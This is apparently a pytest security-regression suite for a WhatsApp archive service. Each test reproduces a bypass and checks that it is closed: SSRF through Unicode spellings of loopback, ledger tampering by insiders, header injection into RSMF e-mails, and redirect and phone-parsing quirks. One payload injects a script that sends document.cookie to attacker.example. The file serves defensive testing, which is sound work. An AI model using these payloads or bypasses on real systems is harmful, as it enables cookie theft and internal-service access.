"""Ways around the guards: Unicode spellings of internal addresses, leaves and disposition rows written
behind the ledger's back, header injection into RSMF e-mails, unlogged CLI reads, non-ASCII phone
digits, login redirects. Each test reproduces one way in and proves it closed."""

from __future__ import annotations

import asyncio
import base64
import email
import os
import subprocess
import sys
import uuid
import zipfile
from collections.abc import AsyncIterator

import asyncpg
import pytest
import pytest_asyncio
from aiohttp import web

from tests.conftest import LEDGER_KEY
from tests.test_outbound import _proxy, _record
from wa_archive.devstack.embedded import free_port
from wa_archive.errors import LinkRefused
from wa_archive.integrity import ledger
from wa_archive.sources.links import Allowlist, LinkFetcher
from wa_archive.sources.meta.samples import dumps, envelope, message, wamid

SIGNER = ledger.Signer(base64.b64decode(LEDGER_KEY))
PUBLIC_KEY = base64.b64encode(SIGNER.public_key()).decode()
REFUSED = (asyncpg.InsufficientPrivilegeError, asyncpg.RaiseError, asyncpg.CheckViolationError)
TEXT = {"messaging_product": "whatsapp", "to": "+447700900123", "type": "text", "text": {"body": "x"}}


def _env(stack, database_url: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WA_ARCHIVE_")}
    env.update(WA_ARCHIVE_DATABASE_URL=database_url, WA_ARCHIVE_STORAGE_URL=stack.store.url,
               WA_ARCHIVE_LEDGER_SIGNING_KEY=LEDGER_KEY)
    return env


async def _cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    return await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "wa_archive.cli", *args], env=env,
                                   capture_output=True, text=True, timeout=120)


# --- SSRF: Unicode host names that yarl folds into an internal IP literal -----------------------------

class Internal:
    """An internal service on loopback that must never be reached through a sender's link."""

    def __init__(self) -> None:
        self.hits = 0
        self.port = 0

    async def handle(self, request: web.Request) -> web.Response:
        self.hits += 1
        return web.Response(body=b"INTERNAL SECRET", content_type="text/plain")


@pytest_asyncio.fixture
async def internal() -> AsyncIterator[Internal]:
    service = Internal()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", service.handle)
    runner = web.AppRunner(app)
    await runner.setup()
    service.port = free_port()
    await web.TCPSite(runner, "127.0.0.1", service.port).start()
    yield service
    await runner.cleanup()


# urllib.parse sees these hosts as names (so check_url leaves them to the resolver), but yarl folds
# them (IDNA/UTS-46: full-width digits, ideographic and full-width full stops, circled digits) into
# the literal 127.0.0.1, and aiohttp connects to an IP literal without asking any resolver.
UNICODE_LOOPBACK = ["１２７．０．０．１", "127。0。0。1", "①②⑦.⓪.⓪.①", "127．0．0．1"]


@pytest.mark.parametrize("host", UNICODE_LOOPBACK)
async def test_a_unicode_spelling_of_loopback_is_not_fetched(internal, host):
    fetcher = LinkFetcher(Allowlist(""), max_bytes=1000, timeout=5)
    try:
        with pytest.raises(LinkRefused):
            async with fetcher.download(f"http://{host}:{internal.port}/latest/meta-data") as (chunks, _):
                [chunk async for chunk in chunks]
    finally:
        await fetcher.close()
    assert internal.hits == 0, "the internal service was reached"


async def test_a_redirect_to_a_unicode_spelling_of_loopback_is_not_followed(internal):
    async def bounce(request: web.Request) -> web.Response:
        # Set by hand: web.HTTPFound would pass the location through yarl and send it folded to ASCII.
        return web.Response(status=302, headers={"Location": f"http://１２７．０．０．１:{internal.port}/secret"})

    app = web.Application()
    app.router.add_get("/r", bounce)
    runner = web.AppRunner(app)
    await runner.setup()
    port = free_port()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    # The first hop is admitted by the allow-list (as the tests' fake media host is); the hop it
    # redirects to is not on it.
    fetcher = LinkFetcher(Allowlist("127.0.0.1"), max_bytes=1000, timeout=5)
    try:
        with pytest.raises(LinkRefused):
            async with fetcher.download(f"http://127.0.0.1:{port}/r") as (chunks, _):
                [chunk async for chunk in chunks]
    finally:
        await fetcher.close()
        await runner.cleanup()
    assert internal.hits == 0, "the redirect reached the internal service"


async def test_a_sender_token_cannot_make_the_worker_archive_an_internal_service(stack_factory, internal):
    """End to end: a `sender` token's outbound media link in full-width digits would be fetched from
    loopback and the internal answer archived as the message's media; it is refused instead."""
    stack = await stack_factory(media_fetch_allowlist="")
    token = await stack.token("sender")
    link = f"http://１２７．０．０．１:{internal.port}/latest/meta-data/iam"
    body = {**TEXT, "type": "image", "image": {"link": link, "caption": "statement"}}
    _, answer = await _proxy(stack, token, body)
    wamid_ = answer["messages"][0]["id"]
    from tests.test_outbound import status_body

    await stack.post(status_body(wamid_, "sent", 1792493902))
    failure = await stack.wait_for_failure(wamid_)  # the refusal is the end of the story, recorded
    assert failure["attempts"][0]["error_type"] == "LinkRefused"
    assert internal.hits == 0, "the worker fetched the internal service"
    assert await stack.pool.fetchval(
        "SELECT count(*) FROM media WHERE message_id = $1 AND status = 'archived'", wamid_) == 0


# --- Database insiders ---------------------------------------------------------------------------------

async def test_the_application_role_cannot_write_a_ledger_leaf_the_head_did_not_number(clean_db):
    """Leaves are numbered by the head row; a leaf written at the next number without moving the head
    would make every later append collide with it, so nothing could be archived or read (reads are
    refused when their access-log leaf cannot be written): the application role may not write one."""
    pool = clean_db
    size = await pool.fetchval("SELECT size FROM ledger_head")
    leaf = ledger.leaf_bytes("message", "wamid.squatter", "0" * 64)
    from wa_archive.integrity import merkle

    try:
        await pool.execute("INSERT INTO ledger_leaves (seq, kind, record_id, digest, leaf_hash)"
                           " VALUES ($1, 'message', 'wamid.squatter', $2, $3)", size, "0" * 64,
                           merkle.leaf_hash(leaf))
    except REFUSED:
        return
    # It went in: the archive's own next append now fails.
    async with pool.acquire() as conn:
        with pytest.raises(asyncpg.UniqueViolationError):
            async with conn.transaction():
                await ledger.append(conn, "access", "1", "d")
    pytest.fail("the application role wrote a leaf at a number the head did not give it; every later "
                "append (records and access-log entries) now fails")


async def _archive_two(stack) -> dict[str, str]:
    ids = {"kept": wamid(), "deleted": wamid()}
    await stack.post(dumps(envelope([
        message("text", {"body": "I never agreed to this"}, mid=ids["deleted"], ts=1770000001),
        message("text", {"body": "hello"}, mid=ids["kept"], ts=1770000002),
    ])))
    for mid in ids.values():
        await stack.wait_for_message(mid)
    return ids


async def test_a_deleted_message_covered_by_a_disposition_row_without_a_ledger_leaf_is_named(
        stack, database_url):
    """Disposition always appends a leaf for its record. An insider deletes a retained message
    (superuser, triggers off) and adds a dispositions row carrying the message's digest but no leaf:
    `verify` must not accept it as a lawful removal."""
    ids = await _archive_two(stack)
    env = _env(stack, database_url)
    assert (await _cli(env, "ledger", "checkpoint")).returncode == 0
    clean = await _cli(env, "verify", "--public-key", PUBLIC_KEY)
    assert clean.returncode == 0, clean.stdout + clean.stderr

    victim = ids["deleted"]
    digest = await stack.pool.fetchval("SELECT digest FROM ledger_leaves WHERE kind = 'message' AND record_id = $1"
                                       " ORDER BY seq DESC LIMIT 1", victim)
    async with stack.admin_pool.acquire() as conn, conn.transaction():
        await conn.execute("SET LOCAL session_replication_role = replica")
        await conn.execute("DELETE FROM message_deliveries WHERE message_id = $1", victim)
        await conn.execute("DELETE FROM messages WHERE id = $1", victim)
    # The insider adds a dispositions row covering it, without a ledger leaf (the application role
    # may no longer insert one at all: only record_disposition() writes them).
    await stack.admin_pool.execute(
        "INSERT INTO dispositions (message_id, reason, retain_until, record)"
        " VALUES ($1, 'retention_expired', now() - interval '1 day', $2)",
        victim, {"message_digest": digest, "media": [], "status_events": [], "failures": []})

    report = await _cli(env, "verify", "--public-key", PUBLIC_KEY)
    assert report.returncode == 1 and victim in report.stdout, (
        "verify said OK for a retained message deleted behind the archive's back:\n" + report.stdout)


# --- Export bundles: the RSMF e-mail's headers -------------------------------------------------------

async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp_path):
    """The RSMF file is an RFC 5322 message whose Subject carries the contact's id, which comes from
    the payload (a webhook's `from`/`wa_id`); a line break in it must not end the headers early and
    make the e-mail an HTML document of the sender's."""
    from wa_archive.archive.keys import safe_id
    from wa_archive.discovery.export import ExportQuery, write_bundle
    from wa_archive.sources.meta.samples import dumps, envelope, message

    contact = ("x\r\nContent-Type: text/html\r\n\r\n<script>fetch('https://attacker.example/'+document.cookie)"
               "</script>\r\n")
    item = message("text", {"body": "hello"}, phone=contact)
    status, answer = await stack.post(dumps(envelope([item], phone=contact)))
    assert status == 200, answer
    await stack.wait_for_message(item["id"])

    out = tmp_path / "bundle.zip"
    await write_bundle(stack.pool, stack.store, ExportQuery(), out, exported_by="attack", signer=SIGNER)
    with zipfile.ZipFile(out) as zf:
        raw = zf.read(f"rsmf/{safe_id(contact)}.rsmf")
    rsmf = email.message_from_bytes(raw)
    assert rsmf.get_content_type() == "multipart/mixed", (
        f"the contact id rewrote the RSMF e-mail into {rsmf.get_content_type()}:\n{raw[:400]!r}")
    assert "<script>" not in rsmf.get("Subject", "") and b"\r\nContent-Type: text/html" not in raw


async def test_the_record_api_takes_only_a_digits_contact_id(stack):
    """A `sender` token supplies Meta's answer to the record API, contacts[].wa_id included: an id
    that is not a WhatsApp id (digits) is refused, not archived as the contact."""
    from tests.test_outbound import PNID

    token = await stack.token("sender")
    for wa_id in ("x\r\nSubject: forged", "４４７７００", "447700900123 ", 447700900123):
        status, answer = await _record(stack, token, {
            "phone_number_id": PNID, "request": {**TEXT, "to": "447700900123"},
            "response": {"messages": [{"id": "wamid.RSMF" + uuid.uuid4().hex}],
                         "contacts": [{"input": "447700900123", "wa_id": wa_id}]}})
        assert status == 400 and "contacts[0].wa_id" in answer["error"], (wa_id, answer)
    status, answer = await _record(stack, token, {
        "phone_number_id": PNID, "request": {**TEXT, "to": "447700900123"},
        "response": {"messages": [{"id": "wamid.RSMF" + uuid.uuid4().hex}],
                     "contacts": [{"input": "447700900123", "wa_id": "447700900123"}]}})
    assert status == 200, answer


# --- Access logging --------------------------------------------------------------------------------

async def test_cli_retrieval_tests_is_an_access_logged_read(clean_db, database_url):
    """`wa-archive retrieval-tests` prints the sampled items (message ids, and object keys, which hold
    the contact's phone number): a read that must leave its own access-log entry."""
    pool = clean_db
    phone = "447700900123"
    key = f"archive/2026/02/02/{phone}/wamid.SAMPLED.jpg"
    await pool.execute(
        "INSERT INTO retrieval_reports (workflow_id, run_id, started_at, finished_at, sample_size, passed, failed,"
        " slowest_ms, items) VALUES ('retrieval-test', $1, now(), now(), 1, 0, 1, 1.0, $2)",
        uuid.uuid4().hex, [{"item": {"archive_id": str(uuid.uuid4()), "message_id": "wamid.SAMPLED",
                                      "storage_key": key}, "status": "failed", "problem": "missing"}])
    env = {k: v for k, v in os.environ.items() if not k.startswith("WA_ARCHIVE_")}
    env["WA_ARCHIVE_DATABASE_URL"] = database_url
    run = await _cli(env, "retrieval-tests", "--json")
    assert run.returncode == 0, run.stderr
    assert phone in run.stdout  # archive data was printed
    logged = await pool.fetchval("SELECT count(*) FROM access_log WHERE role = 'cli'")
    assert logged >= 1, "retrieval-tests printed archive data without an access-log entry"


# --- Small parsers: non-ASCII digits, a trailing newline --------------------------------------------

@pytest.mark.parametrize("value", ["１２", "²", "+44 ７７００ 900123", "٤٤٧٧٠٠٩٠٠١٢٣", "44\u00a07700"])
def test_a_phone_number_is_ascii_digits_only(value):
    """str.isdigit admits full-width, superscript and Arabic-Indic digits; a phone number that is
    searched, held or erased must be the same string as the one archived, so they are not phones."""
    from wa_archive.archive.keys import normalize_phone

    assert normalize_phone(value) is None
    assert normalize_phone("+44 7700-900123") == "447700900123"


async def test_the_login_redirect_refuses_a_trailing_newline(stack):
    """`$` matches before a final newline, so `/ui/x\\n` passed the pattern and was handed to the
    redirect, which left it to yarl to clean up. A target outside the pattern falls back to /ui/."""
    from tests.test_ui_security import LOGIN_CSRF, SESSION

    token = await stack.token("auditor")
    async with stack.http.get(f"{stack.url}/ui/login") as resp:
        login_cookie = resp.cookies[LOGIN_CSRF]
    async with stack.http.post(f"{stack.url}/ui/login",
                               data={"token": token, "csrf": login_cookie.value, "next": "/ui/x\n"},
                               headers={"Cookie": f"{LOGIN_CSRF}={login_cookie.value}"},
                               allow_redirects=False) as resp:
        assert resp.status == 302, await resp.text()
        assert resp.headers["Location"] == "/ui/" and SESSION in resp.cookies
